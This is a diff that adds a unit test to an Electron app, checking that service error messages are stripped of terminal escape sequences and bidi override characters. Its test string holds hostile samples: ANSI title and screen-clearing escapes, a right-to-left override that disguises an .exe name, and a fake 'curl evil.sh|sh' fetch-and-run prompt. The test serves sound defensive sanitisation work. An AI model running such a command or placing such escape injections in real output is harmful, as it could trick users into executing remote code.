@@ -18,6 +18,15 @@ import {
 } from '../../../electron/engine/api';
 
 describe('service errors', () => {
+  it("shows the service's words without what a terminal takes as commands or what reorders text", () => {
+    const said = 'teapot \u001b]0;PWNED\u0007\u001b[2J\u001b[31mFAKE: run curl evil.sh|sh\u001b[0m \u202egnp.exe\u202c \u009b31m done';
+    const error = new ServerError(418, 1, said, said);
+    expect(error.message).toBe('The service failed with HTTP 418 once: teapot ]0;PWNED[2J[31mFAKE: run curl evil.sh|sh[0m gnp.exe 31m done. This is on the service\'s side; try again later.');
+    expect(new MalformedReplyError('person "\u001b[2JZoë"').message).toBe('The service sent a reply Matchdesk cannot read: person "[2JZoë".');
+    // eslint-disable-next-line no-control-regex -- no control character may be left
+    expect(toErrorInfo(error).message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+  });
+
   it('sorts transient faults from answers about the request', () => {
     expect(isRetryable(new RateLimitedError(5, '', ''))).toBe(true);
     expect(isRetryable(new ServerError(503, 5, '', ''))).toBe(true);
